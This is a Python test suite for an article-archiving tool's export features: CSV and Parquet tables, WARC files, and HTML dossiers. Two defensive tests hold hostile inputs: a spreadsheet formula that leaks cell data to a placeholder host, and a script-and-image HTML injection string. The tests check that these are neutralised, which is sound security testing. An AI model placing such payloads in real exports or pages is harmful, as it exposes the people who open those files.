"""Tables, WARC files and dossiers: whole, as documented, and harmless."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest
from archives import BRIDGE, HARBOUR, fetched, page, take

import variorum.pipeline.tables
from variorum.bootstrap import open_archive
from variorum.cli import main
from variorum.evidence.warcscan import scan
from variorum.model import Document
from variorum.pipeline.exporting_tables import disarmed, export_tables, schema
from variorum.pipeline.tables import TABLES

ROOT = Path(__file__).resolve().parents[2]


def run(capsys: pytest.CaptureFixture[str], *args: object) -> tuple[int, str, str]:
    capsys.readouterr()
    with pytest.raises(SystemExit) as ended:
        main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert isinstance(ended.value.code, int)
    return ended.value.code, out, err


def tables(archive: Path, to: Path, form: str = "csv") -> dict[str, int]:
    with open_archive(archive, read_only=True) as store, store.read() as records:
        return export_tables(records, to, form, records.article_numbers())


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_every_table_is_there_with_the_columns_that_are_documented(
    untouched: Path, tmp_path: Path
) -> None:
    counts = tables(untouched, tmp_path / "t")
    assert (counts["articles"], counts["captures"], counts["versions"]) == (2, 8, 4)
    told = json.loads((tmp_path / "t" / "schema.json").read_text())
    assert told == schema()
    room = (ROOT / "docs" / "rooms" / "evidence.md").read_text("utf-8")
    for table in TABLES:
        rows = read_csv(tmp_path / "t" / f"{table.name}.csv")
        assert len(rows) == counts[table.name], table.name
        assert rows, table.name
        assert list(rows[0]) == [c.name for c in table.columns]
        start = f"| `{table.name}` | {table.meaning} |"
        line = next(x for x in room.splitlines() if x.startswith(start))
        assert re.findall(r"\w+", line.split("|")[3]) == [c.name for c in table.columns]


_LISTED = {
    "articles": ("state",),
    "captures": ("outcome",),
    "versions": ("kind",),
    "links": ("op",),
    "words": ("op",),
    "changes": ("kinds",),
    "claims": ("type", "speaker_kind"),
    "claim_changes": ("kind",),
}


def test_every_column_says_what_it_means_and_lists_its_words_whole(
    untouched: Path, tmp_path: Path
) -> None:
    tables(untouched, tmp_path / "t")
    for table in TABLES:
        meanings = {column.name: column.meaning for column in table.columns}
        assert all(meanings.values()), table.name
        for name in _LISTED.get(table.name, ()):
            assert "…" not in meanings[name]
            listed = set(re.split(r",? (?:of )?", meanings[name]))
            for row in read_csv(tmp_path / "t" / f"{table.name}.csv"):
                assert set(row[name].split(" | ")) <= listed, (table.name, name, row[name])


def test_a_text_that_upsets_the_rules_for_claims_costs_its_claims_and_nothing_else(
    untouched: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    whole = tables(untouched, tmp_path / "whole")
    real = variorum.pipeline.tables.find_claims

    def upset(document: Document, *rest: Any) -> Any:
        if document == newest:
            raise IndexError("list index out of range")
        return real(document, *rest)

    with open_archive(untouched, read_only=True) as store, store.read() as records:
        version = records.versions(1)[-1]
        newest = version.document
    monkeypatch.setattr(variorum.pipeline.tables, "find_claims", upset)
    told = tables(untouched, tmp_path / "upset")
    assert told["claims"] < whole["claims"]
    assert {k: n for k, n in told.items() if "claim" not in k} == {
        k: n for k, n in whole.items() if "claim" not in k
    }
    # Of a text whose claims are not known it is not said that claims are gone.
    gone = [r for r in read_csv(tmp_path / "upset" / "claim_changes.csv") if r["article"] == "1"]
    assert all(int(r["new"]) != version.number for r in gone)
    assert f"version {version.number} of article 1 upsets the rules for claims" in caplog.text


def test_offsets_and_links_lead_to_the_words_they_name(untouched: Path, tmp_path: Path) -> None:
    tables(untouched, tmp_path / "t")
    texts = {(v["article"], v["number"]): v["text"] for v in read_csv(tmp_path / "t/versions.csv")}
    sentences = read_csv(tmp_path / "t/sentences.csv")
    for s in sentences:
        text = texts[s["article"], s["version"]]
        assert text[int(s["start"]) : int(s["end"])] == s["text"]
    for c in read_csv(tmp_path / "t/claims.csv"):
        text = texts[c["article"], c["version"]]
        assert text[int(c["start"]) : int(c["end"])] == c["content"]
    known = {(s["article"], s["version"], s["sentence"]) for s in sentences}
    for link in read_csv(tmp_path / "t/links.csv"):
        if link["old_sentence"]:
            assert (link["article"], link["old"], link["old_sentence"]) in known
        if link["new_sentence"]:
            assert (link["article"], link["new"], link["new_sentence"]) in known
    words = {(w["op"], w["text"].strip()) for w in read_csv(tmp_path / "t/words.csv")}
    assert {("removed", "12"), ("added", "21")} <= words


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    story = page(BRIDGE, evil, ("@SUM(1+1) is what the page says in its first paragraph here.",))
    later = page(BRIDGE, "+1 " + evil, ("-1 is what the page says in its first paragraph now.",))
    take(tmp_path / "a", [fetched(BRIDGE, 0, story), fetched(BRIDGE, 1, later)])
    tables(tmp_path / "a", tmp_path / "t")
    cells = 0
    for path in (tmp_path / "t").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    cells += 1
                    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cells > 100
    headlines = [v["headline"] for v in read_csv(tmp_path / "t/versions.csv")]
    assert headlines == [f"'{evil}", f"'+1 {evil}"]
    assert [disarmed(t) for t in ("a=b", "", "  =x", "＝x", "’")] == [
        "a=b",
        "",
        "'  =x",
        "'＝x",
        "’",
    ]


def test_parquet_has_the_same_rows_with_types_and_meanings(untouched: Path, tmp_path: Path) -> None:
    parquet: Any = pytest.importorskip(
        "pyarrow.parquet", reason="pyarrow is not installed: an optional part"
    )
    counts = tables(untouched, tmp_path / "p", "parquet")
    assert counts == tables(untouched, tmp_path / "c", "csv")
    for table in TABLES:
        found = parquet.read_table(tmp_path / "p" / f"{table.name}.parquet")
        assert found.num_rows == counts[table.name]
        assert found.column_names == [c.name for c in table.columns]
        for column, field in zip(table.columns, found.schema, strict=True):
            assert field.metadata[b"meaning"].decode() == column.meaning
    versions = parquet.read_table(tmp_path / "p" / "versions.parquet").to_pylist()
    assert versions[0]["first_seen"].isoformat() == "2025-03-01T12:00:00+00:00"
    assert versions[1]["fields"]
    texts = [v["text"] for v in read_csv(tmp_path / "c" / "versions.csv")]
    assert [v["text"] for v in versions] == texts


def test_an_export_is_there_whole_or_not_at_all(
    untouched: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "t").mkdir()
    with pytest.raises(FileExistsError):
        tables(untouched, tmp_path / "t")
    (tmp_path / "t").rmdir()

    def fails(*_: object) -> object:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("variorum.pipeline.exporting_tables._cell", fails)
    with pytest.raises(OSError, match="No space"):
        tables(untouched, tmp_path / "t")
    assert list(tmp_path.iterdir()) == []


def test_a_warc_file_has_every_record_as_it_lies_in_the_archive(
    untouched: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "out.warc.gz"
    code, out, _ = run(capsys, "export", path, "--archive", untouched, "--json")
    assert (code, json.loads(out)["records"], json.loads(out)["format"]) == (0, 8, "warc")
    data = path.read_bytes()
    found = list(scan(memoryview(data)))
    assert [r.trouble for r in found] == [None] * 8
    [warc] = (untouched / "warc").iterdir()
    whole = warc.read_bytes()
    assert all(data[r.offset : r.offset + r.length] in whole for r in found)


def test_every_format_by_name_from_the_command_line(
    untouched: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for name, form in (("a.jsonl", "jsonl"), ("a.wacz", "wacz"), ("tables.csv", "csv")):
        code, out, _ = run(capsys, "export", tmp_path / name, "--archive", untouched, "--json")
        assert (code, json.loads(out)["format"]) == (0, form)
        assert (tmp_path / name).exists()
    code, out, _ = run(capsys, "export", "-", "--article", BRIDGE, "--archive", untouched)
    assert (code, len(out.splitlines())) == (0, 3)
    both = ("--article", BRIDGE, "--article", HARBOUR)
    code, out, _ = run(capsys, "export", "-", *both, "--archive", untouched)
    assert len(out.splitlines()) == 4
    code, _, _ = run(capsys, "export", tmp_path / "a.html", "--archive", untouched)
    assert (code, (tmp_path / "a.html").exists()) == (0, True)
    code, _, err = run(capsys, "export", tmp_path / "tables.csv", "--archive", untouched)
    assert (code, "is there already" in err) == (2, True)
    code, _, err = run(capsys, "export", tmp_path / "no" / "a.wacz", "--archive", untouched)
    assert (code, "cannot write" in err) == (2, True)
    assert "Traceback" not in err


def test_a_dossier_stands_alone_and_runs_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = '<script>alert(1)</script><img src="http://x.example/y.png">'
    escaped = evil.replace("<", "&lt;").replace(">", "&gt;")
    words = "“We will open it in {} days,” said Anna Berg, an engineer at the council."
    story = page(BRIDGE, "Bridge", (f"It was closed. {escaped}", words.format(12)))
    later = page(BRIDGE, "Bridge", (f"It was closed. {escaped}", words.format(21)))
    take(tmp_path / "a", [fetched(BRIDGE, 0, story), fetched(BRIDGE, 1, later)])
    path = tmp_path / "d.html"
    code, _, _ = run(capsys, "export", path, "--article", "1", "--archive", tmp_path / "a")
    assert code == 0
    told = path.read_text("utf-8")
    assert "default-src 'none'" in told
    assert "<script" not in told
    assert "<img" not in told
    assert "&lt;script&gt;" in told
    assert re.search(r"<del[^>]*>(<span[^>]*>[^<]*</span>)?12 days", told)
    assert re.search(r"<ins[^>]*>(<span[^>]*>[^<]*</span>)?21 days", told)
    assert "Anna Berg" in told
    assert re.search(r"<code>[0-9a-f]{64}</code>", told)
    assert "— variorum/" in told
    assert "held these bytes no later than" in told
